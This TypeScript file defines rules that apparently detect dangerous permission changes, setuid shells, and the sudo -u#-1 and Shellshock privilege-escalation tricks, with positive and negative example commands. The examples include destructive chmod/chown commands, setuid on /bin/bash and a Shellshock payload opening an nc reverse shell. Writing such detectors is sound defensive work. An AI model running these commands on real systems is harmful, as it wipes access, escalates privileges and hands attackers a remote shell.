// Opening permissions on broad trees, and setuid shells.
import { rawWords } from "../resolve.js";
import type { CommandRule, ScriptRule } from "../rule.js";
import { hasFlag, operands, targetClasses } from "./facts.js";

const WORLD_WRITABLE = /^(?:[0-7]?[0-7][0-7][2367]|[ugo]*[ao][ugo]*\+[rwxXst]*w[rwxXst]*|\+[rwxXst]*w[rwxXst]*)$/;
const STRIPPED = /^(?:0?000|[ugoa]*[ao][ugoa]*-rwx|[ugoa]*=)$/;
const SETUID = /^(?:[2467][0-7]{3}|u\+s|\+s|g\+s|a\+s)$/;
const SHELL_LIKE = /(?:^|\/)(?:bash|sh|dash|zsh|ksh|python[0-9.]*|perl|ruby|find|vim?|nano|less|more|awk|env|node|php|cp|tee)$/;

export const permissionRules: CommandRule[] = [
  {
    id: "chmod-world-writable-broad",
    description: "world-writable permissions on /, a home directory or a system tree, or every permission taken from them",
    severity: "critical",
    reason: "semantic:destructive_command",
    names: ["chmod"],
    check: (inv) => {
      const [mode, ...targets] = operands(inv.args);
      if (!mode) return false;
      const classes = targetClasses(targets);
      // Taking every permission away from the root, a home or a system tree locks everyone out.
      if (STRIPPED.test(mode) && hasFlag(inv.args, "R", ["--recursive"]) && (classes.has("root") || classes.has("home") || classes.has("system"))) return true;
      if (!WORLD_WRITABLE.test(mode)) return false;
      if (classes.has("root") || classes.has("home") || classes.has("system")) return true;
      if (classes.has("system-file") || classes.has("home-sensitive")) return "high";
      return classes.has("cwd") && hasFlag(inv.args, "R", ["--recursive"]) ? "medium" : false;
    },
    examples: {
      positive: ["chmod -R 777 /", "sudo chmod -R 000 /", "chmod -R a-rwx /etc", "chmod 777 /etc/shadow", "sudo chmod -R a+rwx ~", "chmod -R 0777 /var", "chmod -R 777 ."],
      negative: ["chmod 755 script.sh", "chmod -R 777 ./tmp/uploads", "chmod +x deploy.sh", "chmod 600 ~/.ssh/id_rsa"],
    },
  },
  {
    id: "chown-broad",
    description: "recursive ownership change of /, a home directory or a system tree",
    severity: "high",
    reason: "semantic:destructive_command",
    names: ["chown", "chgrp"],
    check: (inv) => {
      if (!hasFlag(inv.args, "R", ["--recursive"])) return false;
      const [, ...targets] = operands(inv.args);
      const owner = rawWords(inv).slice(1).find((w) => !w.startsWith("-")) ?? "";
      const classes = targetClasses(targets);
      if (classes.has("root") || classes.has("system")) return true;
      // Giving your own home back to yourself is a repair, not an attack.
      const user = owner.split(":")[0] as string;
      const ownHome = targets.length > 0 && targets.every((t) => new RegExp(`^/(?:home|Users)/${user.replace(/[^\w.-]/g, "")}/?$`).test(t));
      const self = /^(?:\$USER|\$\(whoami\)|`whoami`|\$\(id -u\)|\$LOGNAME)(?::|$)/.test(owner) || (user !== "" && ownHome);
      return classes.has("home") && !self ? "medium" : false;
    },
    examples: {
      positive: ["chown -R nobody /", "sudo chown -R me:me /usr", "chgrp -R users /etc", "sudo chown -R nobody ~", "sudo chown -R bob /home/alice"],
      negative: ["chown -R www-data:www-data /var/www/html", "chown me file.txt", "sudo chown -R $USER:$USER ~", "sudo chown -R $(whoami) ~/", "sudo chown -R alice:alice /home/alice"],
    },
  },
  {
    id: "setuid-shell",
    description: "setuid bit on a shell or interpreter (privilege escalation); on any other installed program, for review",
    severity: "high",
    reason: "semantic:destructive_command",
    names: ["chmod"],
    check: (inv) => {
      const [mode, ...targets] = operands(inv.args);
      if (!mode || !SETUID.test(mode)) return false;
      if (targets.some((t) => SHELL_LIKE.test(t))) return true;
      // Any other installed program made setuid: a privilege that outlives the session.
      return targets.some((t) => t.startsWith("/")) ? "medium" : false;
    },
    examples: {
      positive: ["chmod u+s /bin/bash", "chmod 4755 /usr/bin/python3", "sudo chmod +s /usr/bin/find", "sudo chmod u+s /usr/local/bin/tool"],
      negative: ["chmod u+x build.sh", "chmod 4755 ./my-helper"],
    },
  },
];

/** Known privilege-escalation tricks, read once from the whole script (not per command). */
export const privilegeEscalationExploit: ScriptRule = {
  id: "privilege-escalation-exploit",
  description: "known privilege-escalation tricks: sudo -u#-1 (CVE-2019-14287), Shellshock function definitions",
  severity: "critical",
  reason: "semantic:destructive_command",
  check(all) {
    const sudoBypass = /(?:^|[\s;&|(])sudo\s+(?:-\S+\s+)*(?:-u\s*#-1|-u\s*#4294967295|--user=#-1)\b/.test(all.source);
    // Shellshock: a function definition as a *value* (env var, header), not `name() { … }`.
    const shellshock = /(?:^|[='"\s])\(\)\s*\{\s*:\s*;\s*\}\s*;/.test(all.source);
    return sudoBypass || shellshock ? all.invocations[0] : undefined;
  },
  examples: {
    positive: ["sudo -u#-1 /bin/bash", "env x='() { :;}; echo vulnerable' bash -c 'echo test'", "curl -A '() { :;}; /bin/bash -c \"nc 10.0.0.1 1337 -e /bin/sh\"' http://target/cgi-bin/status"],
    negative: ["sudo -u deploy ls", "f() { :; }; f"],
  },
};
